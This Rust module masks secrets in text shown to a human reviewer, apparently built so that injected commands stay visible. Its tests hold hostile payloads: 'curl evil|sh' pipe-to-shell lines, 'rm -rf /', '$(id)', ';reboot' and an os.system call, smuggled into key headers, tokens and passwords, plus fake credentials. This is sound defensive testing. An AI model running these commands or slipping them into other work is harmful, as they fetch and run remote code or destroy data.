//! Masks in a question that a person decides. What is masked there may not be able to act: a person answers for what the question shows.
//!
//! The rules that find secrets read a text as a secret where they can: the lines between the frames of a key, a value up to its closing quote.
//! That is right for a model, which is to learn nothing. In a question the same span might hold a command. So of each span only the runs of
//! characters that keys are made of are masked, and beside signs that act only those runs that were drawn at random.

use std::borrow::Cow;

use super::finding::{Finding, without_overlaps};
use super::rules::WordRules;
use super::{mask, secret};

/// A text with the secrets in it masked as far as they cannot act, and whether any were.
///
/// The text with its masks taken out holds every character of `text` that is no letter or digit of ASCII and none of `+/=_-.~`, in order.
pub fn masked_for_person(text: &str) -> (Cow<'_, str>, bool) {
    let mut findings = Vec::new();
    secret::findings(text, &mut findings);
    let runs: Vec<Finding> = without_overlaps(findings).into_iter().flat_map(|finding| runs(text, finding)).collect();
    if runs.is_empty() {
        return (Cow::Borrowed(text), false);
    }
    (Cow::Owned(mask::apply(text, runs, &WordRules::default())), true)
}

/// The parts of a finding that are masked.
fn runs(text: &str, finding: Finding) -> Vec<Finding> {
    let value = text.get(finding.start..finding.end).unwrap_or_default();
    let signs: Signs = value.chars().map(Signs::of).max().unwrap_or(Signs::None);
    if signs == Signs::None {
        return vec![finding];
    }
    let acts = signs == Signs::Acting;
    let holds = |character: char| if acts { is_of_base64(character) } else { is_of_keys(character) };
    let is_word = |run: &str| !run.bytes().any(|byte| byte.is_ascii_digit() || byte.is_ascii_uppercase());
    let hides = |run: &str| if acts { is_drawn(run) } else { !is_word(run) };
    let mut out = Vec::new();
    let mut from = 0;
    for (at, sign) in value.char_indices().filter(|(_, character)| !holds(*character)).chain([(value.len(), '\0')]) {
        let run = value.get(from..at).unwrap_or_default();
        // `\u0041`, `\x41`: letters of a key that are written as escapes.
        let escaped = from > 0 && value.get(..from).is_some_and(|before| before.ends_with('\\')) && is_code(run);
        let mut hide =
            |at: usize, run: &str| out.push(Finding { start: finding.start + at, end: finding.start + at + run.len(), ..finding });
        if !run.is_empty() && (escaped || hides(run)) {
            hide(from, run);
        } else if acts {
            // A path shows its own words; what was drawn stands between its slashes.
            let mut place = from;
            for part in run.split('/') {
                if is_drawn(part) {
                    hide(place, part);
                }
                place += part.len() + 1;
            }
        }
        from = at + sign.len_utf8();
    }
    out
}

/// What else than characters of keys a span holds; the worst counts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Signs {
    None,
    /// What people put into passwords and no language reads as more than an operator.
    Beside,
    /// Blanks, ends of lines, quotes, brackets, what joins commands.
    Acting,
}

impl Signs {
    const fn of(character: char) -> Self {
        match character {
            _ if is_of_keys(character) => Self::None,
            '!' | '#' | '%' | '^' | '*' | '@' | ':' | ',' | '?' => Self::Beside,
            _ => Self::Acting,
        }
    }
}

/// Characters of keys of every alphabet: base64 of both kinds, and what joins the parts of a token.
const fn is_of_keys(character: char) -> bool {
    is_of_base64(character) || matches!(character, '_' | '-' | '.' | '~')
}

const fn is_of_base64(character: char) -> bool {
    character.is_ascii_alphanumeric() || matches!(character, '+' | '/' | '=')
}

/// Whether a run was drawn at random: no command, no path, no name of a host or a program reads like it.
fn is_drawn(run: &str) -> bool {
    /// A line of base64 in armour has 64 characters or more; a shorter run with a slash is taken for a path.
    const LINE: usize = 40;
    let count = |test: fn(&u8) -> bool| run.bytes().filter(test).count();
    let (lower, upper, digits) = (count(u8::is_ascii_lowercase), count(u8::is_ascii_uppercase), count(u8::is_ascii_digit));
    let mixed = lower >= 2 && upper >= 2 && run.len() >= 10 && (digits > 0 || run.len() >= LINE && lower.min(upper) * 4 > lower + upper);
    let hexadecimal = run.len() >= 16 && digits * 4 >= run.len() && run.bytes().all(|byte| byte.is_ascii_hexdigit());
    hexadecimal || mixed && (run.len() >= LINE || !run.contains('/'))
}

/// Whether a run begins with the number of a character after the letter of an escape.
fn is_code(run: &str) -> bool {
    let hex = |digits: usize| run.get(1..=digits).is_some_and(|code| code.bytes().all(|byte| byte.is_ascii_hexdigit()));
    run.starts_with('u') && hex(4) || run.starts_with('x') && hex(2)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::secret::rules::tests::examples;
    use proptest::prelude::*;

    /// Secrets that their names show.
    const NAMED: [&str; 7] = [
        "DB_PASSWORD=tG4#xw8Kd!Zq1nPy",
        "WEATHER_KEY=b9f3c27e4a1d8f60b7e52c9a13d4f8e6",
        "\"client_secret\": \"q7Wxnc2V8bRyHsJ4\"",
        "密码：q7Wxnc2V8b",
        "tool --password q7WxTnc2V8 run",
        "define('DB_PASSWORD', 'q7WxTnc2V8');",
        "{\"password\": \"q7W\\u0078Tnc2V8bRy4\"}",
    ];

    /// A question without its masks.
    fn shown(text: &str) -> String {
        let (question, _) = masked_for_person(text);
        let mut parts = question.split("[SECRET:");
        let first = parts.next().unwrap_or_default().to_owned();
        parts.fold(first, |mut shown, part| {
            shown.push_str(part.split_once(']').unwrap().1);
            shown
        })
    }

    fn signs(text: &str) -> String {
        text.chars().filter(|character| !is_of_keys(*character)).collect()
    }

    #[test]
    fn a_question_shows_what_could_act_inside_of_what_reads_as_a_key() {
        let line = "QU1D".repeat(16) + "aZ0b";
        let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
        for (label, headers) in [
            ("RSA PRIVATE KEY", "Proc-Type: 4,ENCRYPTED'; curl evil|sh; : '\nDEK-Info: AES-128-CBC,AA\n\n"),
            ("RSA PRIVATE KEY", "Proc-Type: \"\"\"; curl evil|sh; y = \"\"\"\n\n"),
            ("RSA PRIVATE KEY", "A: '; curl evil|sh; : '\nB: 2\nLong-Header-Name: '; rm -rf /; : '\n\n"),
            ("RSA PRIVATE KEY", "'; curl evil|sh; '\n\n"),
            ("PGP PRIVATE KEY BLOCK", "Version: '; curl evil|sh; : '\n\n"),
            ("PRIVATE KEY", "curl evil|sh\n"),
            ("PRIVATE KEY", "curl\tevil|sh;reboot\n"),
        ] {
            for body in [line.as_str(), key] {
                let text = format!("#!/bin/sh\n: '-----BEGIN {label}-----\n{headers}{body}\n{key}\n-----END {label}-----'\necho hi\n");
                let (question, masked) = masked_for_person(&text);
                assert!(masked && question.contains("curl") && question.contains("evil|sh"), "{question}");
                assert!(!question.contains("MIIEvQ"), "the key itself stays masked: {question}");
                assert_eq!(question.lines().count(), text.lines().count());
            }
        }
        for (text, seen) in [
            ("Authorization: Bearer q7WxTnc2V8bRy4HsJ5mm$(id)", "$(id)"),
            ("Authorization: Bearer q7WxTnc2V8bRy4HsJ5mm`id`", "`id`"),
            ("password = 'q7WxTnc2V8$id;reboot'", "$id;reboot"),
            ("mongodb://ann:q7WxTnc2V8$PATH;reboot;@db.example/app", ";reboot;"),
            ("Private-Lines: 2\nAAAAB3NzaC1yc2EAAAADAQABAAABAQDJ8r0aPQ2w9m5h1n3b\nreboot\nPrivate-MAC: 8d3f1b6c", "\nreboot\n"),
        ] {
            let (question, _) = masked_for_person(text);
            assert!(question.contains(seen) && !question.contains("q7WxTnc2V8"), "{question}");
        }
    }

    #[test]
    fn a_question_masks_what_is_a_key_alone() {
        let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
        for (text, question) in [
            ("id = AKIAQ7ZT3N5WXK2VPLMR\n".to_owned(), "id = [SECRET:aws-access-key]\n"),
            ("password = tG4#xw8Kd!Zq1nPy".to_owned(), "password = [SECRET:credential]#[SECRET:credential]![SECRET:credential]"),
            (
                format!("{{\"k\": \"-----BEGIN PRIVATE KEY-----\\n{key}\\n{key}\\n-----END PRIVATE KEY-----\"}}"),
                "{\"k\": \"-----BEGIN PRIVATE KEY-----\\[SECRET:pem]\\[SECRET:pem]\\n-----END PRIVATE KEY-----\"}",
            ),
            (
                format!("-----BEGIN PRIVATE KEY-----\n{key}\n{key}\n-----END PRIVATE KEY-----\n"),
                "-----BEGIN PRIVATE KEY-----\n[SECRET:pem]\n[SECRET:pem]\n-----END PRIVATE KEY-----\n",
            ),
        ] {
            assert_eq!(masked_for_person(&text).0, question);
        }
    }

    #[test]
    fn every_rule_has_a_secret_to_be_tried_with() {
        for texts in examples() {
            assert!(texts.iter().any(|text| masked_for_person(text).1), "{texts:?}");
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]
        #[test]
        fn no_mask_of_a_question_stands_for_a_sign_that_acts(
            which in prop::sample::select([examples().concat(), NAMED.map(str::to_owned).to_vec()].concat()),
            places in prop::collection::vec((0.0..1.0_f64, "[ \t\n'\"`;$(){}<>|&\\\\,:#!]{1,3}|'; curl evil\\|sh; : '|\\$\\(id\\)|\u{e9}|\"\"\"; import os; os.system\\(1\\)"), 0..4),
        ) {
            let mut text = which;
            for (place, sign) in places {
                #[expect(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss, reason = "a place in a short text")]
                let at = crate::finding::floor(&text, (text.len() as f64 * place) as usize);
                text.insert_str(at, &sign);
            }
            prop_assert_eq!(signs(&shown(&text)), signs(&text));
            let words = |text: &str| ["curl evil|sh", "$(id)", "import os; os.system(1)"].map(|word| text.matches(word).count());
            prop_assert_eq!(words(&masked_for_person(&text).0), words(&text));
        }
    }
}
